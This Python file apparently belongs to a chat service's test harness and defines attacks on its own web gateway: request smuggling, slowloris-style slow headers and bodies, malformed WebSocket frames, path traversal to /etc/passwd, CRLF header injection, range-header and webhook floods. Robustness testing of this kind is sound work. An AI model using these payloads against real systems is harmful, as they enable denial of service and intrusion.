"""The attacks on the gateway, one function each. See `attacks.py`."""

import collections
import hashlib
import http.client
import itertools
import json
import time
import urllib.parse

from attacker import unique
from papo import new_message_id


def web_handshakes(attacker):
    """WebSockets of one address that come and go."""
    connections = collections.deque(maxlen=50)
    yield
    while True:
        connections.append(attacker.browser(upgrade(attacker)))
        yield


def web_smuggling(attacker):
    """Requests with two lengths, and with nonsense."""
    host = host_line(attacker)
    shapes = itertools.cycle(
        [
            b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            b"Content-Length: 0\r\nContent-Length: 44\r\n\r\n",
            b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
            b"X: " + b"x" * 40_000 + b"\r\n\r\n",
        ]
    )
    yield
    while True:
        request = b"POST /rpc HTTP/1.1\r\n" + host + next(shapes)
        attacker.browser(request + b"GET /healthz HTTP/1.1\r\n" + host + b"\r\n").close()
        yield


def web_slow(attacker):
    """Connections that never send the end of their headers."""
    connections = collections.deque(maxlen=500)
    yield
    while True:
        connections.append(attacker.browser(b"GET / HTTP/1.1\r\nX: "))
        yield


def web_slow_bodies(attacker):
    """Requests whose body stops after its first byte."""
    connections = collections.deque(maxlen=500)
    head = b"POST /rpc HTTP/1.1\r\n" + host_line(attacker)
    yield
    while True:
        request = head + b"Content-Length: 100\r\n\r\n{"
        connections.append(attacker.browser(request))
        yield


def web_frames(attacker):
    """WebSocket frames that are too long, unmasked, reserved or not UTF-8."""
    connections = collections.deque(maxlen=50)
    frames = itertools.cycle(
        [
            bytes([0x81, 0xFF]) + (1 << 63).to_bytes(8, "big") + bytes(4),
            bytes([0x81, 0xFF]) + (2 << 20).to_bytes(8, "big") + bytes(4),
            bytes([0x81, 2]) + b"{}",
            bytes([0xC1, 0x80]) + bytes(4),
            bytes([0x83, 0x80]) + bytes(4),
            bytes([0x81, 0x82]) + bytes(4) + b"\xc3\x28",
            bytes([0x89, 0xFE, 0, 126]) + bytes(4 + 126),
        ]
    )
    yield
    while True:
        connections.append(attacker.browser(upgrade(attacker) + next(frames)))
        yield


def web_foreign(attacker):
    """Requests and WebSockets of other sites, and under foreign names."""
    own, evil = host_line(attacker), b"Host: evil.example\r\n"
    origin, cookie = b"Origin: http://evil.example\r\n", b"Cookie: papo-0=x\r\n"
    post = b"POST /messages HTTP/1.1\r\nContent-Length: 2\r\n"
    socket_of_site = upgrade(attacker).replace(own, own + origin + cookie)
    requests = itertools.cycle(
        [
            b"GET / HTTP/1.1\r\n" + evil + b"\r\n",
            post + own + origin + cookie + b"\r\n{}",
            post + own + cookie + b"Content-Type: text/plain\r\n\r\n{}",
            socket_of_site,
            upgrade(attacker).replace(own, evil),
        ]
    )
    yield
    while True:
        attacker.browser(next(requests)).close()
        yield


def web_paths(attacker):
    """Paths that leave the routes, and names with line breaks."""
    end = b" HTTP/1.1\r\n" + host_line(attacker) + b"\r\n"
    paths = itertools.cycle(
        [
            b"/../../../../etc/passwd",
            b"/a/..%2f..%2f..%2fetc%2fpasswd",
            b"/files/%23ops/1/..%2f..%2fpasswd",
            b"/files/%23ops/1/a%0d%0aSet-Cookie:%20x=y",
            b"/history/%00",
            b"/u/" + b"9" * 8_000 + b"/",
        ]
    )
    yield
    while True:
        attacker.browser(b"GET " + next(paths) + end).close()
        yield


def web_ranges(attacker):
    """Thousands of ranges of one file."""
    papo = attacker.user("ranges")
    channel, content = f"#{unique('files')}", b"x" * 100_000
    papo.call("channel.create", channel=channel)
    bearer = {"Authorization": f"Bearer {papo.token}"}
    name = urllib.parse.quote(channel)
    digest = hashlib.sha256(content).hexdigest()
    http_client = http.client.HTTPConnection(attacker.web, timeout=30)
    http_client.request(
        "PUT",
        f"/files/{new_message_id()}?to={name}&name=a.bin&sha256={digest}",
        content,
        bearer,
    )
    n = json.loads(http_client.getresponse().read())["n"]
    http_client.close()
    ranges = itertools.cycle(
        [
            ",".join(f"{start}-" for start in range(2_000)),
            ",".join(["0-"] * 2_000),
            "-99999999999999999999",
            "5-1",
        ]
    )
    connections = collections.deque(maxlen=50)
    head = f"GET /files/{name}/{n}/a.bin HTTP/1.1\r\n".encode()
    head += host_line(attacker) + f"Authorization: {bearer['Authorization']}\r\n".encode()
    yield
    while True:
        request = head + b"Range: bytes=" + next(ranges).encode() + b"\r\n\r\n"
        connections.append(attacker.browser(request))
        yield


def web_hooks(attacker):
    """Posts of 256 KiB with wrong signatures to a signed webhook."""
    papo = attacker.user("moderator")
    channel = f"#{unique('hooks')}"
    papo.call("channel.create", channel=channel)
    hook = papo.call(
        "hook.create", channel=channel, name=unique("hook"), signed=True
    )["hook"]
    body = json.dumps({"text": "x" * 260_000}).encode()
    connections = collections.deque(maxlen=20)
    request = (
        f"POST /hooks/{hook} HTTP/1.1\r\nContent-Type: application/json\r\n"
        f"X-Hub-Signature-256: sha256={'0' * 64}\r\n"
        f"Content-Length: {len(body)}\r\n"
    ).encode()
    request += host_line(attacker) + b"\r\n" + body
    yield
    while True:
        connections.append(attacker.browser(request))
        yield


def web_unfinished(attacker):
    """WebSocket messages of 1 MB whose end never arrives."""
    connections = collections.deque(maxlen=50)
    head = bytes([0x81, 0xFF]) + (1_000_000).to_bytes(8, "big") + bytes(4)
    yield
    while True:
        connection = attacker.browser(upgrade(attacker))
        time.sleep(0.01)
        for part in [head, *[b"x" * 100_000] * 9]:
            try:
                connection.send(part)
            except OSError:
                pass
        connections.append(connection)
        yield


def host_line(attacker):
    return f"Host: {attacker.web}\r\n".encode()


def upgrade(attacker):
    return (
        f"GET /ws HTTP/1.1\r\nHost: {attacker.web}\r\n"
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: papo.v1\r\n\r\n"
    ).encode()


# The attempts per second of each attack.
ATTACKS = {
    web_handshakes: 100,
    web_smuggling: 50,
    web_slow: 50,
    web_slow_bodies: 50,
    web_unfinished: 10,
    web_frames: 50,
    web_foreign: 50,
    web_paths: 50,
    web_ranges: 20,
    web_hooks: 10,
}
